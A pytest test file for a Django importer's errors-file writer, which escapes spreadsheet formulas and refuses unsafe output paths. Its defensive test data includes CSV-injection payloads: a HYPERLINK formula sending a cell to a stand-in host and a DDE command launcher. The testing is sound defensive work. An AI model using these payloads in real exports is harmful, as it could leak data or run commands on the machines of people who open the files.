"""Safety of what we write: the --errors-file (importers/errorsfile.py).

- Cells a spreadsheet would run as a formula (= + - @ tab CR first) are written
  with a leading quote, the header and the error column too; `--keep-raw-errors`
  writes them as read. Stripping that one quote gives back the value read.
- Nothing read is lost or evaluated: surplus cells of a ragged row, the columns of
  every file of a run, values that are not valid Unicode, text shaped like code.
- The path is checked before any row is read: an input file, a database file, a
  missing folder, an unwritable path or an existing file (without
  --overwrite-errors-file) is a usage error and nothing is touched. The file is
  created at the first rejected row, so it exists after a run exactly when that
  run rejected a row; rows are flushed as they are written.
"""

from __future__ import annotations

import csv
import json
import os

import pytest

from importers.errorsfile import ErrorsFile, neutralize
from importers.options import ImportOptions
from importers.pipeline import Records, run_import
from mysite.blog.importers import AuthorImporter
from mysite.blog.models import Author

from .conftest import run
from .reliability import table_state

pytestmark = pytest.mark.django_db

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["", "a=b", "1-2", " =1", "'quoted", "{0.__class__}", "%s", "\n=1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_starts_are_quoted(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert neutralize(text) == text


def rows_of(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def authors_file(tmp_path, header="username,name,email"):
    """Every dangerous or harmless text as a name, each row rejected by its email."""
    path = tmp_path / "authors.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(header.split(","))
        for i, text in enumerate(DANGEROUS + HARMLESS):
            writer.writerow([f"user{i}", text, "=not an email"])
    return path


def test_errors_file_quotes_formulas_and_keeps_everything_else(tmp_path):
    path = authors_file(tmp_path)
    errors = tmp_path / "errors.csv"
    result = run(
        "load_data", str(path), "--on-error", "skip", "--errors-file", str(errors)
    )
    assert result.error == f"{len(DANGEROUS + HARMLESS)} rows rejected"
    header, *rows = rows_of(errors)
    assert header == ["username", "name", "email", "line", "error"]
    assert [row[1] for row in rows] == [
        *("'" + text for text in DANGEROUS),
        *HARMLESS,
    ]
    assert {row[2] for row in rows} == {"'=not an email"}
    assert all("email: " in row[4] for row in rows)


def test_keep_raw_errors_writes_the_values_as_read(tmp_path):
    path = authors_file(tmp_path)
    errors = tmp_path / "errors.csv"
    run(
        "load_data",
        str(path),
        "--on-error",
        "skip",
        "--errors-file",
        str(errors),
        "--keep-raw-errors",
    )
    _, *rows = rows_of(errors)
    assert [row[1] for row in rows] == DANGEROUS + HARMLESS
    assert {row[2] for row in rows} == {"=not an email"}


def test_header_and_error_column_are_quoted_too(tmp_path):
    path = tmp_path / "authors.csv"
    path.write_text("username,-name,\"=cmd|' /C calc'!A0\"\nada,,x\n")
    errors = tmp_path / "errors.csv"
    result = run(
        "load_data",
        str(path),
        "--on-error",
        "skip",
        "-i",
        "--map=-name=name",
        "--errors-file",
        str(errors),
    )
    assert result.returncode == 1
    header, row = rows_of(errors)
    assert header == ["username", "'-name", "'=cmd|' /C calc'!A0", "line", "error"]
    assert row == ["ada", "", "x", "2", "'-name: This field cannot be blank."]


def test_json_values_are_quoted_and_objects_written_as_json(tmp_path):
    path = tmp_path / "authors.jsonl"
    path.write_text(json.dumps({"username": "@ada", "name": {"first": "=1+1"}}) + "\n")
    errors = tmp_path / "errors.csv"
    run("load_data", str(path), "--on-error", "skip", "--errors-file", str(errors))
    header, row = rows_of(errors)
    assert header == ["username", "name", "line", "error"]
    assert row[:3] == ["'@ada", '{"first": "=1+1"}', "1"]


def test_surplus_cells_of_a_ragged_row_follow_the_error(tmp_path):
    path = tmp_path / "authors.csv"
    path.write_text("username,name\nada,Ada,=extra,more\nbob\n")
    errors = tmp_path / "errors.csv"
    run("load_data", str(path), "--on-error", "skip", "--errors-file", str(errors))
    assert rows_of(errors) == [
        ["username", "name", "line", "error"],
        ["ada", "Ada", "2", "row has 4 cells, header has 2", "'=extra", "more"],
        ["bob", "", "3", "row has 1 cells, header has 2"],
    ]


def test_each_file_of_a_run_keeps_its_own_columns(tmp_path):
    authors = tmp_path / "authors.csv"
    authors.write_text("username,name\nada,\n")
    categories = tmp_path / "categories.csv"
    categories.write_text("slug,name\nnot a slug,News\n")
    errors = tmp_path / "errors.csv"
    run(
        "load_data",
        str(authors),
        str(categories),
        "--on-error",
        "skip",
        "--errors-file",
        str(errors),
    )
    rows = rows_of(errors)
    assert [row[:3] for row in rows] == [
        ["file", "username", "name"],
        [str(authors), "ada", ""],
        ["file", "slug", "name"],
        [str(categories), "not a slug", "News"],
    ]


def test_a_value_that_is_not_unicode_is_escaped_not_fatal(tmp_path):
    errors = tmp_path / "errors.csv"
    rows = [{"username": "ada", "name": "A\ud800", "email": "bad"}]
    report = run_import(
        [(AuthorImporter, Records("people", rows))],
        ImportOptions(on_error="skip", errors_file=errors),
    )
    assert report.total("reject") == 1
    _, row = rows_of(errors)
    assert row[1] == "A\\ud800"


def test_an_unwritable_errors_file_fails_before_importing(tmp_path):
    path = tmp_path / "authors.csv"
    path.write_text("username,name\nada,Ada\n")
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    before = table_state()
    result = run("load_data", str(path), "--errors-file", str(blocker / "errors.csv"))
    assert result.returncode == 2
    assert result.error.startswith(f"--errors-file {blocker / 'errors.csv'}: no such")
    assert "\n" not in result.error
    assert table_state() == before


def test_no_folder_is_ever_created(tmp_path):
    path = tmp_path / "authors.csv"
    path.write_text("username,name\nada,Ada\n")
    target = tmp_path / "new" / "dir" / "errors.csv"
    result = run("load_data", str(path), "--errors-file", str(target))
    assert result.returncode == 2
    assert "no such folder" in result.error
    assert not (tmp_path / "new").exists()
    assert Author.objects.count() == 0


@pytest.mark.parametrize("dry_run", [True, False])
def test_the_input_file_is_refused_and_left_intact(tmp_path, dry_run):
    path = tmp_path / "authors.csv"
    content = "username,name,email\nada,Ada,not-an-email\n"
    path.write_text(content)
    link = tmp_path / "link.csv"
    link.symlink_to(path)
    for target in (path, link):
        result = run(
            "load_data",
            str(path),
            "--errors-file",
            str(target),
            "--overwrite-errors-file",
            *(["--dry-run"] if dry_run else []),
        )
        assert result.returncode == 2, result
        assert "it is an input file of this run" in result.error
        assert path.read_text() == content
    assert Author.objects.count() == 0


@pytest.mark.parametrize("dry_run", [True, False])
def test_a_database_file_is_refused(tmp_path, dry_run):
    from django.db import connection

    path = tmp_path / "authors.csv"
    path.write_text("username,name,email\nada,Ada,not-an-email\n")
    if connection.vendor != "sqlite":
        pytest.skip("only SQLite keeps its database in a file")
    name = connection.settings_dict["NAME"]
    size = os.path.getsize(name)
    result = run(
        "load_data",
        str(path),
        "--errors-file",
        name,
        "--overwrite-errors-file",
        *(["--dry-run"] if dry_run else []),
    )
    assert result.returncode == 2
    assert "it is a database file" in result.error
    assert os.path.getsize(name) == size


def test_the_configured_database_files_are_known(tmp_path):
    from django.db import connections

    from importers.errorsfile import database_files

    other = tmp_path / "other.sqlite3"

    connections.settings["other"] = {
        "ENGINE": "django.db.backends.sqlite3",
        "NAME": str(other),
        "TEST": {"NAME": str(tmp_path / "test_other.sqlite3")},
    }
    try:
        files = database_files()
    finally:
        del connections.settings["other"]
    assert other in files
    assert tmp_path / "test_other.sqlite3" in files


def test_an_existing_file_is_refused_unless_asked(tmp_path):
    path = tmp_path / "authors.csv"
    path.write_text("username,name,email\nada,Ada,ada@example.com\nbo,Bo,nope\n")
    errors = tmp_path / "errors.csv"
    old = "username,name,line,error\nold,row,2,from an earlier run\n"
    errors.write_text(old)
    result = run("load_data", str(path), "--errors-file", str(errors))
    assert result.returncode == 2
    assert "the file exists; pass --overwrite-errors-file" in result.error
    assert errors.read_text() == old
    assert Author.objects.count() == 0
    result = run(
        "load_data",
        str(path),
        "--errors-file",
        str(errors),
        "--overwrite-errors-file",
        "--on-error",
        "skip",
    )
    assert result.returncode == 1
    assert rows_of(errors) == [
        ["username", "name", "email", "line", "error"],
        ["bo", "Bo", "nope", "3", "email: Enter a valid email address."],
    ]


def test_a_run_that_rejects_nothing_leaves_no_file(tmp_path):
    path = tmp_path / "authors.csv"
    path.write_text("username,name\nada,Ada\n")
    errors = tmp_path / "errors.csv"
    result = run("load_data", str(path), "--errors-file", str(errors))
    assert result.error is None
    assert not errors.exists()
    errors.write_text("username,name,line,error\nold,row,2,from an earlier run\n")
    result = run(
        "load_data", str(path), "--errors-file", str(errors), "--overwrite-errors-file"
    )
    assert result.error is None
    assert not errors.exists()  # a stale file never passes for this run's
    assert Author.objects.count() == 1


def test_rows_are_on_disk_as_soon_as_they_are_written(tmp_path):
    errors = ErrorsFile(tmp_path / "errors.csv")
    try:
        errors.add(file="f", columns=["a"], cells=["=x"], line=2, error="bad")
        written = (tmp_path / "errors.csv").read_bytes()
        assert written == b"a,line,error\r\n'=x,2,bad\r\n"
    finally:
        errors.close()
